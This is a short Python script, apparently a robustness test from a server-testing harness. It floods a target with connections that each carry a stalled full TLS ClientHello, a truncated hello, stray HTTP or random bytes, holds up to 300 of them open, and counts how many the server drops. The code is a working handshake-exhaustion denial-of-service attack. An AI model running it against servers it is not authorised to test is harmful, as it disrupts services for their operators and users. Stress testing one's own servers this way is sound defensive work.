#!/usr/bin/python3
"""Half TLS handshakes: a ClientHello and silence, half a ClientHello, and what is no TLS at all, by the hundred and left open."""
import os
import select
import socket
import ssl

from attacker import main

MARK = ("tls.handshakes_evicted", "tls.handshakes_timeout", "tls.failed_malformed")
ENDED = True
TLS = True
OPEN = 300


def hello():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    out = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def was_ended(sock):
    """Whether the server has closed or reset it."""
    sock.setblocking(False)
    try:
        while select.select([sock], [], [], 0)[0]:
            if not sock.recv(65536):
                return True
    except BlockingIOError:
        pass
    except OSError:
        return True
    return False


def attack(run):
    whole = hello()
    ways = (whole, whole[:50], b"GET / HTTP/1.1\r\n\r\n", os.urandom(300), whole[:9] + os.urandom(len(whole) - 9))
    peers = []
    while run.going():
        data = ways[run.seen["connections"] % len(ways)]
        try:
            sock = socket.create_connection(run.address, timeout=5)
            sock.sendall(data)
        except OSError:
            continue
        run.seen["connections"] += 1
        run.seen["frames"] += 1
        run.seen["bytes"] += len(data)
        peers.append(sock)
        if len(peers) > OPEN:
            first = peers.pop(0)
            run.seen["ended"] += was_ended(first)
            first.close()
    for sock in peers:
        run.seen["ended"] += was_ended(sock)
        sock.close()


if __name__ == "__main__":
    main(attack)
